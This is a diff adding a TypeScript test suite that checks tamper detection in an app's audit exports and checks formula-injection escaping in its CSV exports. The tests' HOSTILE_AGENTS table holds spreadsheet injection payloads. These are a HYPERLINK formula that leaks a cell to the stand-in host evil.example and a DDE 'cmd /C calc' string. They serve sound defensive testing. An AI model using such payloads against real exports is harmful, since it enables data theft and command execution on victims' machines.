@@ -1,0 +1,307 @@
+/**
+ * Tampering and exports (issue 9 "Exports", "Tests: Tampering"): one byte of a stored compliance event is
+ * flipped in the SQLite file itself; the history endpoint's verification names the broken revision, a JSON
+ * export taken before verifies (in code and with `npm run audit -- verify`), one taken after is refused
+ * naming the stream and revision, and hand edits of an export are refused naming the first mismatch.
+ * CSV exports: a header row, one row per event, RFC 4180 quoting and formula-injection escaping.
+ */
+import { execFile } from 'node:child_process';
+import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { promisify } from 'node:util';
+import { type Stack, startStack, testClock } from '@tickwise/command-service/src/testing/harness';
+import { type AuditExport, type AuditHistory, DocumentType, streams } from '@tickwise/contracts';
+import Database from 'better-sqlite3';
+import { acknowledge, assessRisk, type Person, parseCsv, register, registerWithRole, view } from './test-support';
+import { verifyExport } from './verify-export';
+
+const run = promisify(execFile);
+const ROOT = join(__dirname, '..', '..', '..');
+const files = mkdtempSync(join(tmpdir(), 'tickwise-exports-'));
+
+/** One User-Agent per acknowledged document: each starts with a character a spreadsheet reads as a formula. */
+const HOSTILE_AGENTS: Record<DocumentType, string> = {
+  risk_disclosure: '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
+  cftc_warning: '+1+cmd|\' /C calc\'!A0',
+  educational_disclaimer: '-2+3',
+  privacy_policy: '@SUM(1+1)',
+};
+
+const clock = testClock('2025-06-02T08:00:00.000Z');
+let stack: Stack;
+let auditor: Person;
+let learner: Person;
+let untouchedExport = '';
+let tamperedStream = '';
+
+beforeAll(async () => {
+  stack = await startStack({ clock, publishContent: true });
+  auditor = await registerWithRole(stack, 'auditor');
+  learner = await register(stack, { label: 'tamper' });
+  for (const type of DocumentType.values) await view(learner, type);
+  clock.advance(12_000);
+  for (const type of DocumentType.values) {
+    const res = await learner.post(
+      '/api/compliance/acknowledgment',
+      { documentType: type, version: '1.0' },
+      { 'User-Agent': HOSTILE_AGENTS[type] },
+    );
+    expect(res.status).toBe(201);
+  }
+  await assessRisk(learner);
+  auditor.saw(learner.position);
+  tamperedStream = streams.compliance(learner.userId);
+
+  const res = await auditor.get(`/api/audit/learners/${learner.userId}/export?format=json`);
+  expect(res.status).toBe(200);
+  untouchedExport = res.text;
+});
+afterAll(async () => {
+  await stack?.close();
+  rmSync(files, { recursive: true, force: true });
+});
+
+const parse = (text: string) => JSON.parse(text) as AuditExport;
+const history = async () => {
+  const res = await auditor.get(`/api/audit/learners/${learner.userId}/history`);
+  expect(res.status).toBe(200);
+  return res.body as AuditHistory;
+};
+let fileCount = 0;
+const saved = (text: string) => {
+  const file = join(files, `export-${++fileCount}.json`);
+  writeFileSync(file, text);
+  return file;
+};
+const auditCli = (file: string) =>
+  run(process.execPath, ['--import', 'tsx', join(ROOT, 'query-service/src/audit/cli.ts'), 'verify', file], {
+    cwd: ROOT,
+  });
+
+/** Flips the lowest bit of one byte of a stored event's data, straight in the SQLite file. */
+function flipByteOfStoredEvent(stream: string, revision: number) {
+  const db = new Database(join(stack.dir, 'events.db'));
+  try {
+    const row = db.prepare('SELECT data FROM events WHERE stream = ? AND revision = ?').get(stream, revision) as
+      | { data: string }
+      | undefined;
+    if (!row) throw new Error(`no stored event ${stream}@${revision}`);
+    // A byte inside the content hash (a hex digit): flipping its lowest bit keeps the JSON readable.
+    const index = row.data.indexOf('"contentHash":"') + '"contentHash":"'.length + 10;
+    const flipped = String.fromCharCode((row.data.charCodeAt(index) ^ 1) & 0xff);
+    const data = `${row.data.slice(0, index)}${flipped}${row.data.slice(index + 1)}`;
+    expect(data).not.toBe(row.data);
+    JSON.parse(data);
+    db.prepare('UPDATE events SET data = ? WHERE stream = ? AND revision = ?').run(data, stream, revision);
+  } finally {
+    db.close();
+  }
+}
+
+describe('before any tampering', () => {
+  test('the history verifies every stream', async () => {
+    const verification = (await history()).verification;
+    expect(verification.length).toBeGreaterThan(0);
+    expect(verification.every((v) => v.ok && v.brokenAtRevision === null)).toBe(true);
+  });
+
+  test('a JSON export is a download carrying the streams from revision 0 and an export hash', async () => {
+    const res = await auditor.get(`/api/audit/learners/${learner.userId}/export`);
+    expect(res.status).toBe(200);
+    expect(res.headers['content-type']).toMatch(/^application\/json/);
+    expect(res.headers['content-disposition']).toMatch(
+      new RegExp(`^attachment; filename="tickwise-history-${learner.userId}-2025-06-02\\.json"$`),
+    );
+    const file = parse(untouchedExport);
+    expect(file.kind).toBe('learner-history');
+    expect(file.generatedBy).toBe(auditor.userId);
+    expect(file.exportHash).toMatch(/^[0-9a-f]{64}$/);
+    const compliance = file.streams.find((s) => s.stream === tamperedStream);
+    expect(compliance?.events.map((e) => e.revision)).toEqual([0, 1, 2, 3, 4, 5, 6, 7, 8]);
+  });
+
+  test('the untouched export verifies with verifyExport', () => {
+    expect(verifyExport(parse(untouchedExport))).toEqual({
+      ok: true,
+      summary: expect.stringMatching(/^verified: 6 streams, \d+ events, 9 report events, export hash ok$/),
+    });
+  });
+
+  test('and with the CLI: `npm run audit -- verify <file>` exits 0', async () => {
+    const { stdout } = await auditCli(saved(untouchedExport));
+    expect(stdout).toMatch(/^verified: 6 streams/);
+  }, 30_000);
+});
+
+describe('an export edited by hand is refused, naming the first mismatch', () => {
+  const edited = (edit: (file: AuditExport) => void) => {
+    const file = parse(untouchedExport);
+    edit(file);
+    return verifyExport(file);
+  };
+  const storedEvents = (file: AuditExport) => {
+    const found = file.streams.find((s) => s.stream === tamperedStream);
+    if (!found) throw new Error('the export has no compliance stream');
+    return found.events;
+  };
+  const problem = (result: ReturnType<typeof verifyExport>) => (result.ok ? 'ok' : result.problem);
+
+  test('a field of the report (the compliance state) → the export hash does not match', () => {
+    expect(
+      problem(
+        edited((file) => {
+          if ('state' in file.report) file.report.state.isCompliant = false;
+        }),
+      ),
+    ).toMatch(/^exportHash does not match/);
+  });
+
+  test('a report event that no longer matches the stored event it cites → that report event is named', () => {
+    const result = edited((file) => {
+      if ('events' in file.report) {
+        const cited = file.report.events[5];
+        if (cited?.type === 'DocumentAcknowledged') cited.data.secondsRead += 100;
+      }
+    });
+    expect(problem(result)).toBe(`report.events[5] (${tamperedStream} revision 5) does not match the stored event`);
+  });
+
+  test('a stored event → its stream and revision (the first one when several were changed)', () => {
+    const result = edited((file) => {
+      const events = storedEvents(file);
+      for (const revision of [6, 4]) {
+        const event = events[revision];
+        if (event) event.data = { ...(event.data as object), ip: '203.0.113.66' };
+      }
+    });
+    expect(problem(result)).toMatch(new RegExp(`^stream ${tamperedStream}, revision 4: `));
+  });
+
+  test("a stored event's metadata (who acted) → its stream and revision", () => {
+    const result = edited((file) => {
+      const event = storedEvents(file)[3];
+      if (event) event.metadata = { ...event.metadata, actor: 'someone-else' };
+    });
+    expect(problem(result)).toMatch(new RegExp(`^stream ${tamperedStream}, revision 3: `));
+  });
+
+  test('a stored event removed from the middle of a stream → the revision where the gap is', () => {
+    const result = edited((file) => {
+      storedEvents(file).splice(2, 1);
+    });
+    expect(problem(result)).toMatch(new RegExp(`^stream ${tamperedStream}, revision 2: `));
+  });
+
+  test('the export hash itself → the export hash does not match', () => {
+    expect(
+      problem(
+        edited((file) => {
+          file.exportHash = `${file.exportHash.slice(0, 63)}${file.exportHash.endsWith('0') ? '1' : '0'}`;
+        }),
+      ),
+    ).toMatch(/^exportHash does not match/);
+  });
+
+  test('something that is not an export at all', () => {
+    expect(problem(verifyExport('text'))).toBe('the file is not a JSON object');
+    expect(problem(verifyExport({ report: {} }))).toBe('the file has no "streams" list');
+  });
+});
+
+describe('after a byte of compliance revision 2 was flipped in the SQLite file', () => {
+  let afterTampering = '';
+  beforeAll(async () => {
+    flipByteOfStoredEvent(tamperedStream, 2);
+    const res = await auditor.get(`/api/audit/learners/${learner.userId}/export`);
+    expect(res.status).toBe(200);
+    afterTampering = res.text;
+  });
+
+  test('the history endpoint says that stream is broken at revision 2, every other stream ok', async () => {
+    const verification = (await history()).verification;
+    expect(verification.find((v) => v.stream === tamperedStream)).toEqual({
+      stream: tamperedStream,
+      ok: false,
+      events: 9,
+      brokenAtRevision: 2,
+    });
+    const others = verification.filter((v) => v.stream !== tamperedStream);
+    expect(others).toHaveLength(5);
+    expect(others.every((v) => v.ok && v.brokenAtRevision === null)).toBe(true);
+  });
+
+  test('the export taken before still verifies (it holds the original events)', () => {
+    expect(verifyExport(parse(untouchedExport)).ok).toBe(true);
+  });
+
+  test('an export taken after is refused by verifyExport, naming the stream and revision', () => {
+    const result = verifyExport(parse(afterTampering));
+    expect(result.ok).toBe(false);
+    expect(result.ok ? '' : result.problem).toMatch(
+      new RegExp(`^stream ${tamperedStream}, revision 2: content does not match its hash$`),
+    );
+  });
+
+  test('and by the CLI, with exit code 1', async () => {
+    await expect(auditCli(saved(afterTampering))).rejects.toMatchObject({
+      code: 1,
+      stdout: expect.stringContaining(`NOT VERIFIED: stream ${tamperedStream}, revision 2`),
+    });
+  }, 30_000);
+});
+
+describe('CSV exports', () => {
+  const HEADER = [
+    'occurredAt',
+    'type',
+    'stream',
+    'revision',
+    'documentType',
+    'version',
+    'contentHash',
+    'viewedAt',
+    'acknowledgedAt',
+    'secondsRead',
+    'ip',
+    'userAgent',
+    'consentText',
+    'details',
+    'prevHash',
+    'hash',
+  ];
+
+  test('a history: text/csv download, a header row and one row per event of the replay', async () => {
+    const res = await auditor.get(`/api/audit/learners/${learner.userId}/export?format=csv`);
+    expect(res.status).toBe(200);
+    expect(res.headers['content-type']).toMatch(/^text\/csv/);
+    expect(res.headers['content-disposition']).toMatch(/^attachment; filename="tickwise-history-.+\.csv"$/);
+    expect(res.text.endsWith('\r\n')).toBe(true);
+    const [header, ...rows] = parseCsv(res.text);
+    expect(header).toEqual(HEADER);
+    const events = (await history()).events;
+    expect(rows.map((r) => [r[1], r[2], r[3], r[15]])).toEqual(
+      events.map((e) => [e.type, e.stream, String(e.revision), e.hash]),
+    );
+    expect(rows.every((r) => r.length === HEADER.length)).toBe(true);
+  });
+
+  test('as of a moment: only the events up to it', async () => {
+    const asOf = new Date(Date.parse('2025-06-02T08:00:00.000Z') + 1000).toISOString();
+    const res = await auditor.get(`/api/audit/learners/${learner.userId}/export?format=csv&asOf=${asOf}`);
+    const [, ...rows] = parseCsv(res.text);
+    expect(rows.map((r) => r[1])).toEqual(DocumentType.values.map(() => 'ComplianceDocumentViewed'));
+  });
+
+  test('a value starting with = + - or @ is escaped with a leading quote; quotes and commas survive RFC 4180', async () => {
+    const res = await auditor.get(`/api/audit/learners/${learner.userId}/export?format=csv`);
+    const [header, ...rows] = parseCsv(res.text);
+    const column = (name: string) => header?.indexOf(name) ?? -1;
+    const acknowledgments = rows.filter((r) => r[column('type')] === 'DocumentAcknowledged');
+    expect(acknowledgments.map((r) => [r[column('documentType')], r[column('userAgent')]])).toEqual(
+      DocumentType.values.map((type) => [type, `'${HOSTILE_AGENTS[type]}`]),
+    );
+    // No cell anywhere starts with a formula character.
+    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@]/);
+  });
+});
